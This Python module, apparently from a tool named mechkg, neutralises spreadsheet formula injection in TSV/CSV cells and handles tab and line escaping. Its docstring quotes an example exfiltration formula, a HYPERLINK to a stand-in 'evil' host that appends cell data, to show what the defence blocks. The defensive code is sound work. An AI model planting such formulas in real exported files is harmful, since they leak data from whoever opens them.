"""Cells of the tables mechkg writes (TSV, CSV), safe to open in a spreadsheet.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or their
full-width forms) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` in a label would
send data away when the file is opened. :func:`spreadsheet_safe` puts an apostrophe
before such a cell, the mark spreadsheets read as "this is text" and do not show; a
cell that is a plain number (``-0.5``, ``+3``) is left alone.

Examples
--------
>>> spreadsheet_safe('=HYPERLINK("http://x/", "y")')
'\\'=HYPERLINK("http://x/", "y")'
>>> spreadsheet_safe("-0.5"), spreadsheet_safe("BDNF"), spreadsheet_safe("  @cmd")
('-0.5', 'BDNF', "'  @cmd")
>>> table_cell("two\\twords\\nand a line")
'two words and a line'
>>> tsv_escape('a "quote"\\tand\\na line'), tsv_unescape(tsv_escape("x\\\\n\\n"))
('a "quote"\\\\tand\\\\na line', 'x\\\\n\\n')
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_STARTS", "spreadsheet_safe", "table_cell", "tsv_escape", "tsv_unescape"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?\Z")


def spreadsheet_safe(text: str) -> str:
    """``text``, with an apostrophe in front when a spreadsheet would run it as a
    formula (its first non-blank character is one of :data:`FORMULA_STARTS`, or it
    begins with a tab or carriage return) and it is not a plain number."""
    if not text:
        return text
    first = text.lstrip(" ")[:1]
    if (first in FORMULA_STARTS or text[0] in "\t\r") and not _NUMBER.match(text):
        return "'" + text
    return text


def table_cell(value: object) -> str:
    """One cell of a TSV table: runs of whitespace (tabs, line breaks) as one space,
    then made :func:`spreadsheet_safe`."""
    return spreadsheet_safe(" ".join(str(value).split()))


_ESCAPES = {"\\": "\\\\", "\t": "\\t", "\n": "\\n", "\r": "\\r"}
_ESCAPED = re.compile(r"[\\\t\n\r]")
_UNESCAPES = {v: k for k, v in _ESCAPES.items()}
_UNESCAPED = re.compile(r"\\[\\tnr]")


def tsv_escape(text: str) -> str:
    """A cell of a TSV table read without quoting (as KGX reads its TSV): a backslash,
    tab, line feed and carriage return written ``\\\\``, ``\\t``, ``\\n``, ``\\r``;
    quotes are plain characters."""
    return _ESCAPED.sub(lambda m: _ESCAPES[m[0]], text)


def tsv_unescape(text: str) -> str:
    """The text of a cell :func:`tsv_escape` wrote (other backslashes are kept)."""
    return _UNESCAPED.sub(lambda m: _UNESCAPES[m[0]], text)
